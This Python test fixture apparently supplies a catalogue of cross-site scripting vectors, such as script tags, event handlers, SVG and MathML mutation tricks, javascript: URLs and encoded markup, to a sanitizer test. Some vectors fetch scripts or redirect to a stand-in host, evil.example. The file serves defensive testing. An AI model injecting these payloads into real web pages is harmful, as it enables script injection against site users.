"""Web pages that want to run something: each a way by which markup has become script in one browser or another.

Written for these tests after the OWASP and HTML5 Security collections of what is
known. ``RUN`` is what each tries to have run; ``EVIL`` is a host that nobody may
be sent to.
"""

from __future__ import annotations

RUN = "top.pwned=1"
EVIL = "//evil.example"

VECTORS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals with a slash": f"<SCRIPT/x>{RUN}</SCRIPT/x>",
    "script from elsewhere": f'<script src="{EVIL}/x.js"></script>',
    "script of a data: address": f'<script src="data:text/javascript,{RUN}"></script>',
    "module script": f'<script type="module">{RUN}</script>',
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt><script>{RUN}</script>",
    "script that is never closed": f"<script>{RUN};",
    "script in SVG": f"<svg><script>{RUN}</script></svg>",
    "script in SVG by xlink": f'<svg><script xlink:href="data:,{RUN}"></script></svg>',
    "image that fails": f"<img src=x onerror={RUN}>",
    "image, slashes for spaces": f"<img/src=x/onerror={RUN}//>",
    "image, quotation marks of all kinds": f"<img src=`x` onerror=`x`><img src='x' onerror=\"{RUN}\">",
    "image, entities in the handler": f"<img src=x onerror=&#116;op.pwned&#61;1 title={RUN}>",
    "image, a line end in the name of the handler": f"<img src=x onerror\n=\n{RUN}>",
    "image by srcset": f'<img srcset="x 1x" onerror="{RUN}"><picture><source srcset=x onerror={RUN}><img src=x onerror={RUN}></picture>',
    "SVG that loads": f"<svg onload={RUN}>",
    "SVG that animates": f'<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>',
    "SVG that sets a link": f'<svg><a><set attributeName=href to="javascript:{RUN}"/><text x=20 y=20>点这里</text></a></svg>',
    "SVG with foreign HTML": f"<svg><foreignObject><body onload={RUN}><img src=x onerror={RUN}></body></foreignObject></svg>",
    "SVG use": f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x"/></svg>',
    "MathML link": f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">点</maction></math>',
    "MathML and style, mutating": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    "form in MathML, mutating": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={RUN} src>\">",
    "noscript, mutating": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "noembed and xmp, mutating": f'<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed><xmp><p title="</xmp><img src=x onerror={RUN}>">',
    "template": f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror={RUN}></template>",
    "title and textarea that close early": f"<textarea></textarea></title></textarea><img src=x onerror={RUN}>",
    "comment that closes early": f"<!--><img src=x onerror={RUN}>--><!-- --!><img src=x onerror={RUN}>-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "CDATA": f"<![CDATA[><img src=x onerror={RUN}>]]><svg><![CDATA[</svg><img src=x onerror={RUN}>]]></svg>",
    "processing instruction": f"<?xml-stylesheet href=\"javascript:{RUN}\"?><?php <script>{RUN}</script> ?>",
    "frame of javascript:": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame of srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame of srcdoc in entities": f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    "frame of data:": '<iframe src="data:text/html,<script>parent.postMessage(1)</script>"></iframe>',
    "object and embed": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}"><embed src="{EVIL}/x.swf">',
    "link of javascript:": f'<a href="javascript:{RUN}" id=evil>点这里</a>',
    "link of javascript: in disguise": f'<a href=" &#1; j&#x61;v&#x09;ascript&colon;{RUN}">点这里</a><a href="java\nscript:{RUN}">点</a>',
    "link of data: and vbscript:": f'<a href="data:text/html,<script>{RUN}</script>">点</a><a href=vbscript:x>点</a>',
    "form that sends elsewhere": f'<form action="javascript:{RUN}"><button formaction="{EVIL}/">发送</button><input autofocus onfocus={RUN}></form>',
    "details, dialog and popover": f"<details open ontoggle={RUN}><summary>看</summary></details><dialog open oncancel={RUN}></dialog><p popover onbeforetoggle={RUN}>",
    "focus at once": f"<div tabindex=1 autofocus onfocus={RUN}>看</div><select autofocus onfocus={RUN}></select>",
    "sound and film": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}></audio><video poster={EVIL}/x onloadstart={RUN} src=x>",
    "marquee": f"<marquee onstart={RUN} loop=1>走</marquee>",
    "animation by style": f"<style>@keyframes x{{}}</style><p style=\"animation-name:x\" onanimationstart={RUN}>动",
    "style that asks elsewhere": f"<style>@import '{EVIL}/x.css';*{{background:url({EVIL}/y)}}</style><link rel=stylesheet href={EVIL}/z.css>",
    "style attribute": f'<p style="background:url(javascript:{RUN});width:expression({RUN});behavior:url(#x);position:fixed;inset:0">盖</p>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/"><meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "base": f'<base href="{EVIL}/" target=_top>',
    "preload and prefetch": f'<link rel=preload as=script href={EVIL}/a><link rel=dns-prefetch href={EVIL}><link rel=import href={EVIL}/b>',
    "second body": f"</body></html><body onload={RUN} onpageshow={RUN}><img src=x onerror={RUN}>",
    "frameset": f'<frameset onload={RUN}><frame src="javascript:{RUN}"></frameset>',
    "table that throws content out": f"<table><tr><img src=x onerror={RUN}><script>{RUN}</script><td background=\"javascript:{RUN}\">格</table>",
    "ruby with a script for its reading": f"<ruby>行<rp>(</rp><rt><script>{RUN}</script><img src=x onerror={RUN}>háng</rt></ruby>",
    "markup in entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&lt;img src=x onerror={RUN}&gt;",
    "markup in entities twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "the end of our own data": f"&lt;/script&gt;&lt;script&gt;{RUN}&lt;/script&gt;&lt;!--&lt;script&gt;",
    "the end of our own attributes": f'&quot; onmouseover=&quot;{RUN}&quot; autofocus onfocus=&quot;{RUN}&quot; x=&quot;',
    "wide brackets and UTF-7": f"＜script＞{RUN}＜/script＞+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "templates of others": "{{constructor.constructor('top.pwned=1')()}}${top.pwned=1}<%= top.pwned=1 %>[[top.pwned=1]]",
    "nul characters in names": f"<scr\0ipt>{RUN}</script><img src=x onerror={RUN}>",
    "names that hide others": "<form id=body name=body><input name=attributes><img name=getElementById><a id=card></a><a id=article></a></form>",
    "custom element": f'<x-y contenteditable onblur={RUN} onfocus={RUN} autofocus is="x">看</x-y><p is=x-y onpointerenter={RUN}>',
}  # fmt: skip

SENTENCE = "今天天气很好，我们一起去公园散步，看见了很多花，也看见了几只小鸟。"  # a walk in the park


def page(vector: str, title: str) -> str:
    """A page with a vector in its head, in its title, among its paragraphs and in an attribute."""
    quoted = vector.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    paragraphs = f"<p>{SENTENCE * 3}</p>" * 3
    return (
        f'<!doctype html><html lang="zh"><head><meta charset="utf-8"><title>{title}{quoted}</title>'
        f'<meta name="author" content="{quoted}"></head><body><article class="{quoted}"><h2>{title}</h2>{paragraphs}'
        f"<p>前面{vector}后面</p>{paragraphs}</article></body></html>"
    )
